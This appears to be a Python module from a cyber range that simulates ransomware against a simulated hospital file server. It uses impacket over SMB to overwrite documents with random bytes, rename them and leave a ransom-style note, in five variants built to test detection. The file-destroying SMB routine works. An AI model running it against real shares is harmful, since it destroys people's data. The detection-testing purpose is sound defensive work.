"""Ransomware on the file server (ATT&CK T1486 over T1021.002): documents are read, written over, renamed by SMB; the table's first row.

The simulator touches only documents that the range itself laid out (`services.files`), anew before each attack, and writes bytes of a
seeded generator over them. Loud: 60 files in some seconds, with an extension that the share has never seen and a note in every folder.
Slow: three files a minute, far below twenty in 60 seconds, for twenty minutes, without a note. Canary: a file that nobody has a reason to
touch. Scrambled: as loud, but names stay and only the bytes tell. Hidden: as loud, in SMB 3 with encryption: only the shape is left.
"""

from __future__ import annotations

import random
from datetime import datetime
from pathlib import Path

from act import Doing
from acts.intrusion import connect
from impacket.smb3structs import FILE_OPEN, FILE_OVERWRITE_IF
from impacket.smbconnection import SMBConnection
from scenario import Scenario, Script
from services.files import documents, lay_out
from state import Hospital

ENDING, NOTE = "zzlocked", "Restore-My-Files.txt"
NOTE_TEXT = b"An exercise of the range. Nothing was encrypted, nobody is to be paid.\n"
RIGHTS = 0x0013019F  # MS-SMB2 2.2.13.1.1: read, write, delete, attributes, synchronise
LOUD_FILES, SLOW_FILES, SLOW_S = 60, 60, 20
FROM = "adm-pc2"


def lock(share: str, first: int, count: int, *, rename: bool = True, note: str = "", fresh: bool = False, hidden: bool = False) -> Doing:
    """So many of the share's documents, from the `first` on. `note`: left in each folder. `fresh`: laid out anew before."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        if fresh:
            lay_out(hospital, "files")
        files = documents(share)[first : first + count]
        link = connect(hospital, "files", hidden=hidden)
        tree = link.connectTree(share)
        for path in files:
            _scramble(link, tree, _windows(path), random.Random(f"{moment}{path}"))
            if rename:
                link.rename(share, _windows(path), f"{_windows(path)}.{ENDING}")
        for folder in dict.fromkeys(path.parent for path in files if note):
            file = link.createFile(tree, f"{_windows(folder)}\\{note}", creationDisposition=FILE_OVERWRITE_IF)
            link.writeFile(tree, file, NOTE_TEXT)
            link.closeFile(tree, file)
        link.close()

    return doing


def _windows(path: Path) -> str:
    return str(path).replace("/", "\\")


def _scramble(link: SMBConnection, tree: int, name: str, dice: random.Random) -> None:
    file = link.openFile(tree, name, desiredAccess=RIGHTS, creationDisposition=FILE_OPEN)
    size = len(link.readFile(tree, file))
    link.writeFile(tree, file, dice.randbytes(size), 0)
    link.closeFile(tree, file)


def loud(script: Script) -> None:
    script.act(FROM, "documents locked", lock("reports", 0, LOUD_FILES, note=NOTE, fresh=True), "files")


def slow(script: Script) -> None:
    for number in range(SLOW_FILES):
        script.act(FROM, "a document locked", lock("reports", number, 1, fresh=not number), "files")
        script.wait(SLOW_S)


def canary(script: Script) -> None:
    """One file is enough."""
    script.act(FROM, "a canary touched", lock("canary", 0, 1, fresh=True), "files")


def scrambled(script: Script) -> None:
    script.act(FROM, "documents written over", lock("reports", 0, LOUD_FILES, rename=False, fresh=True), "files")


def hidden(script: Script) -> None:
    script.act(FROM, "documents locked, encrypted on the way", lock("reports", 0, LOUD_FILES, note=NOTE, fresh=True, hidden=True), "files")


SCENARIO = Scenario(
    name="ransomware",
    title="A workplace locks the file server's documents",
    technique=("T1486", "T1021.002"),
    variants={"loud": loud, "slow": slow, "canary": canary, "scrambled": scrambled, "hidden": hidden},
    row="ransomware over SMB",
    heavy=True,
)
